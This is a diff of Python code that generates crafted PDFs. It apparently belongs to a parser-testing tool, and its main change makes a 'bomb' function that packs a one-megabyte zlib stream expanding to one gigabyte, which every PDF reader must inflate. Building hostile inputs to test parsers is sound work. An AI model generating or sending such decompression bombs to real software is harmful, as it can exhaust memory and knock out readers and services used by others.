@@ -149,7 +149,7 @@ def packed_script():
 
 def packed(*objects):
     """A PDF of one page that does the first of these objects, all in one packed stream."""
-    places, inner = b"", b""
+    places, inner = bytearray(), bytearray()
     for number, one in enumerate(objects, 6):
         places += b"%d %d " % (number, len(inner))
         inner += one + b" "
@@ -177,10 +177,12 @@ def packed(*objects):
 
 
 def bomb(size=1_000_000_000):
-    """Ten megabytes that unpack to one gigabyte, where every reader must unpack them."""
-    squeezer = zlib.compressobj(9)
-    packed = b"".join(squeezer.compress(b"\0" * 1_000_000) for _ in range(size // 1_000_000))
-    packed += squeezer.flush()
+    """One megabyte that unpacks to one gigabyte, where every reader must unpack it."""
+    squeezer, zeros = zlib.compressobj(9), b"\0" * 1_000_000
+    # After a full flush the same megabyte is packed as the same bytes: packed once, then repeated.
+    first, again = (squeezer.compress(zeros) + squeezer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
+    sum_of_zeros = struct.pack(">I", size % 65521 << 16 | 1)
+    packed = first + again * (size // len(zeros) - 1) + b"\3\0" + sum_of_zeros
     head = b"%PDF-1.7\n"
     return head + (
         b"1 0 obj\n<</Type/XRef/Size 2/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>"
